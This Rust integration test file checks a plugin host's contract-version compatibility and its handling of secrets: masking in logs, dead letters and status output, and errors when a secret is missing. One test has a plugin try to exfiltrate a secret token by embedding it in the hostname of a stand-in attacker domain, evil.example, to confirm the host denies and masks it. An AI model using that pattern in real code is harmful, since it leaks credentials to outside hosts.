//! Contract versions and secrets: a plugin built against 0.1.0 (a binary
//! kept from before 0.2.0) runs unchanged beside 0.2.0 ones; a secret
//! setting reaches the plugin and the remote API, and never the host's
//! log, a dead letter or `status`; a missing secret is a config error
//! naming the key.

use std::process::Command;
use std::time::Duration;

use serde_json::json;
use switchyard_standins::{Api, StandIn};
use switchyard_tests::*;

const LIMIT: Duration = Duration::from_secs(20);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_0_1_0_plugin_runs_beside_0_2_0_ones() {
    let redis = Redis::start();
    let fixture = repo_root().join("tests/fixtures/sleep-0.1.0.wasm");
    let cfg = TestConfig::new(&format!(
        r#"
[routes]
"old" = ["Old"]
"new" = ["New"]

[queues.Old]
plugin = "{}"

[queues.New]
plugin = "@PLUGINS@/io_probe.wasm"
"#,
        fixture.display()
    ));
    let mut conn = redis.conn().await;
    let log = cfg.dir.join("host.log");
    let _host = HostProcess::spawn_with(&cfg.path, redis.url(), &log, &[]).unwrap();
    for i in 0..5 {
        xadd(
            &mut conn,
            cfg.ingress(),
            &[("type", "old"), ("id", &format!("o-{i}")), ("body", "{}")],
        )
        .await;
        send_probe(&mut conn, &cfg, "new", &format!("n-{i}"), json!([]), "ok").await;
    }
    for queue in ["Old", "New"] {
        wait_for(LIMIT, "the queue handled its 5 messages", || {
            let (mut conn, stream) = (conn.clone(), cfg.queue_stream(queue));
            let group = cfg.prefix.clone();
            async move {
                entries(&mut conn, &stream).await.len() == 5
                    && lag(&mut conn, &stream, &group).await == Some(0)
                    && pending(&mut conn, &stream, &group).await == 0
            }
        })
        .await;
    }
    let loaded = |queue: &str| {
        events_in(&log, "plugin_loaded")
            .into_iter()
            .find(|l| l.contains(&format!(" queues={queue} ")))
    };
    let old = loaded("Old").expect("the Old queue's plugin loaded");
    assert!(old.contains("contract=0.1.0"), "{old}");
    let new = loaded("New").expect("the New queue's plugin loaded");
    assert!(new.contains("contract=0.2.0"), "{new}");
    assert_eq!(entries(&mut conn, &cfg.queue_stream("Old")).await.len(), 5);
}

const TOKEN: &str = "tok-9f8e7d6c5b4a";

fn secret_config(server: &StandIn) -> TestConfig {
    let text = format!(
        r#"
[routes]
"probe" = ["Probe"]

[queues.Probe]
plugin = "@PLUGINS@/io_probe.wasm"
allowed_hosts = ["{}"]
max_attempts = 1

[queues.Probe.config]
token = {{ env = "SWITCHYARD_TEST_TOKEN" }}
plain = "visible"
"#,
        server.url()
    );
    TestConfig::with_env(&text, &[("SWITCHYARD_TEST_TOKEN", TOKEN)])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_reach_the_plugin_and_never_the_logs_or_dead_letters() {
    let redis = Redis::start();
    let server = StandIn::start(Api::Echo).await.unwrap();
    let cfg = secret_config(&server);
    let log = cfg.dir.join("host.log");
    let _host = HostProcess::spawn_with(
        &cfg.path,
        redis.url(),
        &log,
        &[("SWITCHYARD_TEST_TOKEN", TOKEN), ("RUST_LOG", "info")],
    )
    .unwrap();
    let mut conn = redis.conn().await;
    send_probe(
        &mut conn,
        &cfg,
        "probe",
        "s-1",
        json!([
            { "config": "token" },
            { "config": "plain" },
            { "http": {
                "method": "GET",
                "url": format!("{}/with-token", server.url()),
                "headers": { "authorization": "config:token" }
            } },
        ]),
        "report",
    )
    .await;
    let report = probe_report(&mut conn, &cfg, "s-1", LIMIT).await;
    // The plugin read the value and sent it where it was meant to go...
    assert_eq!(
        server.requests()[0].header("authorization"),
        Some(TOKEN),
        "the remote API got the secret"
    );
    // ...and wherever the host shows what the plugin handed back, it is
    // masked.
    assert_eq!(report[0], "[secret]");
    assert_eq!(report[1], "visible");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("[secret]"), "the probe logs its results");
    assert!(!text.contains(TOKEN), "the log holds the secret:\n{text}");
    let dead = dead_letters(&mut conn, &cfg).await;
    assert!(!dead[0].reason.contains(TOKEN));

    // `status` runs without the secret's variable, and shows no value.
    let out = Command::new(host_binary())
        .args(["status", "--config"])
        .arg(&cfg.path)
        .args(["--redis-url", redis.url()])
        .env_remove("SWITCHYARD_TEST_TOKEN")
        .output()
        .unwrap();
    let status = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{status}");
    assert!(status.contains("Probe"), "{status}");
    assert!(!status.contains(TOKEN), "{status}");
}

/// A secret with a quote and a backslash, which a plugin echoes inside
/// JSON (escaped), and one in the name a plugin asks to reach: neither
/// reaches the log or the dead letter in any form.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_masked_in_the_forms_plugins_echo_them() {
    const QUOTED: &str = "q\"uo\\te-S3CRET-9876";
    const IN_HOST: &str = "hooktoken4242";
    let redis = Redis::start();
    let cfg = TestConfig::with_env(
        r#"
[routes]
"probe" = ["Probe"]

[queues.Probe]
plugin = "@PLUGINS@/io_probe.wasm"
allowed_hosts = ["https://api.example.com"]
max_attempts = 1

[queues.Probe.config]
quoted = { env = "SWITCHYARD_TEST_QUOTED" }
in_host = { env = "SWITCHYARD_TEST_IN_HOST" }
"#,
        &[
            ("SWITCHYARD_TEST_QUOTED", QUOTED),
            ("SWITCHYARD_TEST_IN_HOST", IN_HOST),
        ],
    );
    let log = cfg.dir.join("host.log");
    let _host = HostProcess::spawn_with(
        &cfg.path,
        redis.url(),
        &log,
        &[
            ("SWITCHYARD_TEST_QUOTED", QUOTED),
            ("SWITCHYARD_TEST_IN_HOST", IN_HOST),
            ("RUST_LOG", "info"),
        ],
    )
    .unwrap();
    let mut conn = redis.conn().await;
    let report = probe(
        &mut conn,
        &cfg,
        "probe",
        "e-1",
        json!([
            { "config": "quoted" },
            { "http": { "method": "GET", "url": format!("http://{IN_HOST}.evil.example/") } },
        ]),
        LIMIT,
    )
    .await;
    assert_eq!(report[0], "[secret]", "{report:?}");
    assert_eq!(report[1]["error"], "denied", "{report:?}");
    wait_for(LIMIT, "the denial logged", || {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        async move { text.contains("event=denied") }
    })
    .await;
    let text = std::fs::read_to_string(&log).unwrap();
    for form in ["S3CRET", IN_HOST] {
        assert!(!text.contains(form), "the log holds {form}:\n{text}");
    }
    assert!(
        text.contains("capability=http detail=\"http://[secret].evil.example"),
        "{text}"
    );
    let dead = dead_letters(&mut conn, &cfg).await;
    assert!(!dead[0].reason.contains("S3CRET"), "{}", dead[0].reason);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_secret_is_a_config_error_naming_the_key() {
    let server = StandIn::start(Api::Echo).await.unwrap();
    let cfg = secret_config(&server);
    let out = Command::new(host_binary())
        .args(["check", "--config"])
        .arg(&cfg.path)
        .env_remove("SWITCHYARD_TEST_TOKEN")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        text.contains(
            "queues.Probe.config.token: the environment variable SWITCHYARD_TEST_TOKEN is not set"
        ),
        "{text}"
    );
}
